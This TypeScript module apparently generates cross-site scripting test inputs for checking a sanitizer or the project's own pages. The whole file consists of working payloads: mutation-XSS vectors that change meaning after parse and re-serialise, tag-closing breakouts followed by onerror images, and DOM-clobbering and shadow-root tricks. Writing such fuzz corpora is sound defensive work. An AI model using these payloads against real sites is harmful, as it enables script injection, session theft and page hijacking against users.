/** Markup that is harmless as it stands and something else once it has been parsed and written again; and ends of what our own pages are built of. */
import type { Family, Maker } from './maker'

const image = (run: string): string => `<img src=x onerror="${run}">`

const mutating: readonly Maker[] = [
  (run) => `<noscript><p title="</noscript>${image(run).replaceAll('"', '')}">`,
  (run) => `<style><a title="</style>${image(run).replaceAll('"', '')}">`,
  (run) => `<xmp><p title="</xmp>${image(run).replaceAll('"', '')}">`,
  (run) => `<iframe><p title="</iframe>${image(run).replaceAll('"', '')}">`,
  (run) => `<noembed><p title="</noembed>${image(run).replaceAll('"', '')}">`,
  (run) => `<noframes><p title="</noframes>${image(run).replaceAll('"', '')}">`,
  (run) => `<!--><p title="-->${image(run).replaceAll('"', '')}">`,
  (run) => `<!-- --!>${image(run)}-->`,
  (run) => `<svg></p><style><a id="</style>${image(run).replaceAll('"', '')}">`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image(run).replaceAll('"', '').replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math>${image(run)}`,
  (run) => `<svg><desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;<s/></noscript>${image(run)}`,
  (run) => `<p id="</p>${image(run).replaceAll('"', "'")}">`,
  (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  (run) => `<template><script>${run}</script></template>${image(run)}`,
  (run) => `<select><option><style></option></select><svg onload="${run}">`,
  (run) => `<img src="x\` \`<script>${run}</script>"\` \`>${image(run)}`,
  (run) => `<<script>${run}//<</script>`,
  (run) => `<img """><script>${run}</script>"\\>`,
  (run) => `<a href=x"><svg onload=${run}>`,
  (run) => `<title></title>${image(run)}`,
  (run) => `<plaintext>${image(run)}`
]

/** Each closes something that a text of ours may stand in. */
const ends = ['</bdi>', '</mark></span>', '</p></div></article>', '</li></ul>', '</option></select>', '</textarea>', '</title>', '</main></div></body></html>', '</button>', '</h1>', '</address>', '"></span>', "'></a>", '-->', '</style></head>', '</script>']
const closing = ends.map((end): Maker => (run) => `${end}${image(run)}`)

const shadows: readonly Maker[] = [
  (run) => `<div id="app"><button onclick="${run}">Sign In</button></div>`,
  (run) => `<div><template shadowrootmode=open>${image(run)}</template></div>`,
  () => `<form id=epistle name=epistle><input name=onEvent></form>`,
  () => `<img name=body><img id=cookie><a id=location href="#x">x</a>`,
  () => `<meta name="viewport" content="width=1"><title>Gone</title>`,
  (run) => `<input popover id=x onbeforetoggle="${run}"><button popovertarget=x>come here</button>`
]

export const mutations: readonly Family[] = [
  { name: 'mutating', makers: mutating },
  { name: 'closing', makers: closing },
  { name: 'in our place', makers: shadows }
]
